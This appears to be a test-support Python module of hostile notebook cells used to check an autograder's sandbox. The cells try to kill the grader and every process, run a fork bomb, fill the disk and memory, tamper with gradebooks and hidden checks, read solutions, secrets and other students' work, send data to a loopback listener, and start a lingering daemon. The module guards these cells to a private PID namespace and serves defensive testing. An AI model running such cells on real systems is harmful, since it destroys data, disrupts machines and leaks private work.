"""Hostile cells for the grading-safety batch, and the evidence of what they did.

Each attack is a code cell aimed at the machine outside its sandbox: the grader, the
project, the gradebook folder, other submissions, a secret file, a loopback listener,
the machine's processes, disk and memory. Every attempt prints one `ATTEMPT` line with
what it got (the content it read, or the error that stopped it): the output of a
graded notebook is kept in the gradebook folder (`results/`), so whatever an attack
could read would be found there. The cells refuse to run outside a private PID
namespace: `kill -9 -1` and a fork bomb must never reach the machine itself.

`Targets` holds what the attacks aim at; `Listener`, `tree_state` and
`processes_naming` are how the test sees whether anything outside changed.
"""

import dataclasses
import hashlib
import json
import os
import pathlib
import socket
import threading

PRELUDE = '''\
import glob, hashlib, json, os, signal, sys
T = json.loads({targets!r})

def attempt(what, action):
    """Run one attack and print what it got, whatever happens."""
    try:
        print(f"ATTEMPT {{what}}: got {{action()!r}}"[:4000], flush=True)
    except BaseException as error:
        print(f"ATTEMPT {{what}}: stopped by {{type(error).__name__}}: {{error}}"[:400], flush=True)

def content(path):
    """What a read attack reports: the file's digest and its beginning."""
    data = open(path, "rb").read()
    return hashlib.sha256(data).hexdigest(), data[:300]

def append(path, text="tampered by a submission"):
    with open(path, "a") as handle:
        handle.write(text)

if os.getpid() > 10:
    raise SystemExit("not in a private PID namespace: the attack is not run")
'''

ATTACKS = {
    "kills_the_grader": '''
attempt("kill the parent", lambda: os.kill(os.getppid(), signal.SIGKILL))
def kill_graders():
    killed = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        if int(pid) != os.getpid() and b"autograder" in open(f"/proc/{pid}/cmdline", "rb").read():
            os.kill(int(pid), signal.SIGKILL)
            killed.append(pid)
    return killed
attempt("kill every process running the grader", kill_graders)
''',
    "kills_everything": '''
attempt("kill -9 -1", lambda: os.kill(-1, signal.SIGKILL))
''',
    "writes_into_the_project": '''
attempt("create a file in the project", lambda: open(os.path.join(T["root"], "PWNED"), "w").write("x"))
attempt("change the hidden checks",
        lambda: append(os.path.join(T["root"], "autograder", "hidden", "dynaq_checks.py")))
attempt("change the helpers", lambda: append(os.path.join(T["root"], "helpers", "__init__.py")))
attempt("plant a module in the runtime",
        lambda: open(os.path.join(sys.prefix, "pwned.pth"), "w").write("import os"))
attempt("truncate an autograder zip",
        lambda: open(os.path.join(T["root"], "autograder", "zips", "02_planning.zip"), "w"))
''',
    "writes_into_the_gradebook": '''
attempt("write the gradebook", lambda: open(os.path.join(T["out"], "gradebook.csv"), "w").write("x"))
attempt("forge a result", lambda: append(os.path.join(T["out"], "results", "ana", "02_planning.json")))
attempt("forge the isolation record", lambda: open(os.path.join(T["out"], "isolation.txt"), "w"))
''',
    "writes_into_other_submissions": '''
attempt("change another student's notebook",
        lambda: append(os.path.join(T["submissions"], "ana", "02_planning.ipynb")))
attempt("add a submission", lambda: os.makedirs(os.path.join(T["submissions"], "zed")))
''',
    "writes_into_tmp": '''
attempt("write into /tmp", lambda: open(T["tmp_marker"], "w").write("x"))
attempt("write into the grader's temporary folders",
        lambda: [append(os.path.join(folder, "PWNED")) for folder in glob.glob("/tmp/*/")])
''',
    "reads_the_masters": '''
attempt("list the masters", lambda: os.listdir(os.path.join(T["root"], "solutions")))
attempt("read a master", lambda: content(os.path.join(T["root"], "solutions", "02_planning.ipynb")))
''',
    "reads_the_hidden_checks": '''
attempt("read the hidden checks",
        lambda: content(os.path.join(T["root"], "autograder", "hidden", "dynaq_checks.py")))
# the Python runtime and the helpers package are shown read-only on purpose, wherever
# they are installed (a project cloned under /tmp, say): anything else is the grader's
import helpers
RUNTIME = tuple(os.path.realpath(p) + "/" for p in
                {sys.prefix, sys.base_prefix, os.path.dirname(helpers.__file__)})
attempt("read the unpacked autograder",
        lambda: [content(p) for p in glob.glob("/tmp/**/*.py", recursive=True)
                 if not os.path.realpath(p).startswith(RUNTIME)])
''',
    "reads_other_submissions": '''
attempt("list the submissions", lambda: os.listdir(T["submissions"]))
attempt("read another student's notebook",
        lambda: content(os.path.join(T["submissions"], "ana", "02_planning.ipynb")))
''',
    "reads_a_secret": '''
attempt("read a secret file", lambda: content(T["secret"]))
''',
    "connects_to_a_listener": '''
import socket
def connect():
    with socket.create_connection(("127.0.0.1", T["port"]), timeout=3) as connection:
        connection.sendall(b"stolen")
    return "sent"
attempt("connect to a loopback listener", connect)
''',
    # Only the first process forks, so it counts every process it made; each child spins,
    # and so does the first process, which cannot be stopped: it times out.
    "fork_bomb": '''
forks = 0
while True:
    try:
        if os.fork() == 0:
            while True:
                pass
    except OSError as error:
        print(f"ATTEMPT fork bomb: stopped after {forks} processes by {type(error).__name__}",
              flush=True)
        break
    forks += 1
while True:
    try:
        while True:
            pass
    except BaseException:
        pass
''',
    "fills_the_disk": '''
import errno
def fill(most=4 << 30):
    written, files = 0, 0
    try:
        while written < most:
            handle = os.open(f"fill{files}.bin", os.O_WRONLY | os.O_CREAT)
            files += 1
            try:
                while written < most:
                    written += os.write(handle, b"x" * (1 << 20))
            except OSError as error:
                if error.errno != errno.EFBIG:
                    raise
            finally:
                os.close(handle)
    except OSError as error:
        return f"stopped after {written >> 20} MiB in {files} files by {errno.errorcode[error.errno]}"
    return f"wrote {written >> 20} MiB unhindered"
attempt("fill the disk", fill)
''',
    # bytes() are allocated zeroed by the kernel, untouched: the memory limit counts them
    # all the same, and the attack takes no time (touching 2 GiB takes seconds on a VM).
    "exhausts_memory": '''
def allocate(block=64 << 20, most=1024):
    blocks = []
    try:
        while len(blocks) < most:
            blocks.append(bytes(block))
    except MemoryError:
        return f"stopped at {len(blocks) * (block >> 20)} MiB by MemoryError"
    return f"allocated {len(blocks) * (block >> 20)} MiB unhindered"
attempt("exhaust memory", allocate)
''',
    "starts_a_daemon": '''
import subprocess
DAEMON = f"""# {T["daemon"]}
import time
for _ in range(600):
    time.sleep(0.5)
    for path in {[os.path.join(T["out"], "gradebook.csv"), os.path.join(T["submissions"], "ana", "02_planning.ipynb")]!r}:
        try:
            open(path, "a").write("tampered later")
        except OSError:
            pass
"""
attempt("start a daemon", lambda: subprocess.Popen(
    [sys.executable, "-c", DAEMON], start_new_session=True, stdin=subprocess.DEVNULL,
    stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL).pid)
''',
}


@dataclasses.dataclass
class Targets:
    """What the attacks aim at."""
    root: str
    out: str
    submissions: str
    secret: str
    tmp_marker: str
    port: int
    daemon: str  # a marker in the daemon's command line


def attack_cell(name, targets):
    """The code cell of attack `name` against `targets`."""
    return PRELUDE.format(targets=json.dumps(dataclasses.asdict(targets))) + ATTACKS[name]


class Listener:
    """A TCP listener on the loopback interface that counts the connections it accepts."""

    def __init__(self):
        self.connections = 0
        self._socket = socket.create_server(("127.0.0.1", 0))
        self.port = self._socket.getsockname()[1]
        threading.Thread(target=self._accept, daemon=True).start()

    def _accept(self):
        while True:
            try:
                connection, _ = self._socket.accept()
            except OSError:  # closed
                return
            self.connections += 1
            connection.close()

    def close(self):
        self._socket.close()


def tree_state(folder, hash_contents_except=()):
    """Every file and folder under `folder` with its size, mode, times (the change time
    cannot be set back) and, outside the folders named in `hash_contents_except`, the
    digest of its content."""
    state = {}
    for path in sorted(pathlib.Path(folder).rglob("*")):
        info = path.lstat()
        relative = path.relative_to(folder)
        digest = None
        if path.is_file() and not path.is_symlink() and relative.parts[0] not in hash_contents_except:
            digest = hashlib.sha256(path.read_bytes()).hexdigest()
        state[str(relative)] = (info.st_size, info.st_mode, info.st_mtime_ns, info.st_ctime_ns, digest)
    return state


def processes_naming(marker):
    """PIDs of the processes on this machine whose command line holds `marker`."""
    found = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            if marker.encode() in pathlib.Path(f"/proc/{pid}/cmdline").read_bytes():
                found.append(int(pid))
        except OSError:  # ended meanwhile
            continue
    return found
